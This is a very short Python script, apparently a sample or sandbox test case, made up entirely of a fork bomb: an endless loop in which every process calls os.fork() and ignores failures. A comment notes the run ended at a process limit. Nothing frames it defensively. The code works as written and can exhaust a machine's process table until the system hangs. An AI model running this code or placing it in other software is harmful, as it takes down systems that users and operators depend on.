# Every child forks too.
# ended: process_limit
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
